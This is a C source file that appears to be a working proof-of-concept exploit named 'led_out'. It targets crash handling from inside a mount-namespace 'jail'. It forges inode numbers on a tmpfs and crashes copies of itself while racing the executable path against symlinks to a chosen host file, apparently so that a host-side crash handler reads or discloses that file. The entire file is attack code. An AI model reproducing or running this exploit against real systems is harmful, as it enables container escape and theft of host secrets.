// led_out secret FILE: copies this program, with another name of the function that it dies in.
// led_out jail DIR SECRET OTHER COUNT: in a root of its own at DIR, lets copies of this program die: one whose path leads to
// it (`jail-before`), one whose path is a link to SECRET by then, whose number of an inode it has (`jail-link`), and so many
// (`jail-0` …) while the path is now the program, now a link to OTHER.
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "common.h"

enum { FILES = 1 << 20, LARGEST = 16 << 20 };

static char program[LARGEST];
static size_t size;

__attribute__((noinline)) void inside_of_the_root(volatile int *at) {
    *at = 1;
    asm volatile("" : : "r"(at) : "memory");
}

static void load(void) {
    int fd = open("/proc/self/exe", O_RDONLY);
    ssize_t got;
    check(fd >= 0, "/proc/self/exe");
    while ((got = read(fd, program + size, LARGEST - size)) > 0)
        size += got;
    check(got == 0 && size < LARGEST, "read");
    close(fd);
}

static void fill(int fd) {
    check(write(fd, program, size) == (ssize_t)size && close(fd) == 0, "write");
}

static void secret(const char *to) {
    static const char own[] = "inside_of_the_root", other[] = "a_secret_of_a_host";
    for (char *at = program; (at = memmem(at, program + size - at, own, sizeof own)); at++)
        memcpy(at, other, sizeof other);
    int fd = open(to, O_WRONLY | O_CREAT | O_EXCL, 0755);
    check(fd >= 0, to);
    fill(fd);
}

// Numbers of inodes of a tmpfs count up.
static void numbered(const char *path, ino_t number) {
    for (int i = 0; i < FILES; i++) {
        struct stat st;
        int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0755);
        check(fd >= 0 && fstat(fd, &st) == 0, path);
        if (st.st_ino == number || number == 0)
            return fill(fd);
        check(close(fd) == 0 && unlink(path) == 0 && st.st_ino < number, "the number of an inode");
    }
    check(0, "too many numbers");
}

// Starts the program of a descriptor, which dies as `name` when it is let go.
static pid_t victim(int fd, char *name, int *go) {
    int ends[2], ready[2];
    char byte;
    check(pipe(ends) == 0 && pipe2(ready, O_CLOEXEC) == 0, "pipe");
    pid_t pid = fork();
    check(pid >= 0, "fork");
    if (pid == 0) {
        dup2(ends[0], 0);
        close(ends[0]);
        close(ends[1]);
        char *args[] = {name, "die", name, NULL}, *none[] = {NULL};
        syscall(SYS_execveat, fd, "", args, none, AT_EMPTY_PATH);
        check(0, "execveat");
    }
    close(ends[0]);
    close(ready[1]);
    // Closed by its exec(2).
    check(read(ready[0], &byte, 1) == 0, "read");
    close(ready[0]);
    *go = ends[1];
    return pid;
}

static void let_go(pid_t pid, int go) {
    int status;
    check(write(go, "x", 1) == 1 && close(go) == 0, "write");
    check(waitpid(pid, &status, 0) == pid && WIFSIGNALED(status) && WTERMSIG(status) == SIGSEGV, "waitpid");
    // Whoever looks for its file by way of us has the time to.
    usleep(100000);
}

static void swap(void) {
    for (;;)
        syscall(SYS_renameat2, AT_FDCWD, "/program", AT_FDCWD, "/link", 2 /* RENAME_EXCHANGE */);
}

static void jail(const char *dir, const char *hosts, const char *other, int count) {
    struct stat st;
    int go;
    check(stat(hosts, &st) == 0, hosts);
    check(unshare(CLONE_NEWNS) == 0 && mount("", "/", NULL, MS_REC | MS_PRIVATE, NULL) == 0, "unshare");
    check(mount("tmpfs", dir, "tmpfs", 0, "size=32m") == 0 && chdir(dir) == 0, dir);
    check(syscall(SYS_pivot_root, ".", ".") == 0 && umount2(".", MNT_DETACH) == 0 && chdir("/") == 0, "pivot_root");
    numbered("/program", st.st_ino);
    int fd = open("/program", O_RDONLY | O_CLOEXEC);
    check(fd >= 0, "/program");
    pid_t pid = victim(fd, "jail-before", &go);
    let_go(pid, go);
    pid = victim(fd, "jail-link", &go);
    check(unlink("/program") == 0 && symlink(hosts, "/program") == 0, "symlink");
    let_go(pid, go);
    close(fd);
    check(unlink("/program") == 0, "unlink");
    numbered("/program", 0);
    check(symlink(other, "/link") == 0, "symlink");
    fd = open("/program", O_RDONLY | O_CLOEXEC);
    pid_t swapper = fork();
    check(fd >= 0 && swapper >= 0, "fork");
    if (swapper == 0)
        swap();
    for (int i = 0; i < count; i++) {
        char name[24];
        snprintf(name, sizeof name, "jail-%d", i);
        pid = victim(fd, name, &go);
        let_go(pid, go);
    }
    kill(swapper, SIGKILL);
}

int main(int argc, char **argv) {
    char byte;
    if (argc > 2 && !strcmp(argv[1], "die")) {
        prctl(PR_SET_NAME, argv[2]);
        check(read(0, &byte, 1) == 1, "read");
        inside_of_the_root(NULL);
    }
    load();
    if (argc > 2 && !strcmp(argv[1], "secret"))
        secret(argv[2]);
    else if (argc > 5 && !strcmp(argv[1], "jail"))
        jail(argv[2], argv[3], argv[4], atoi(argv[5]));
    else
        check(0, "usage: led_out secret FILE | jail DIR SECRET OTHER COUNT");
    return 0;
}
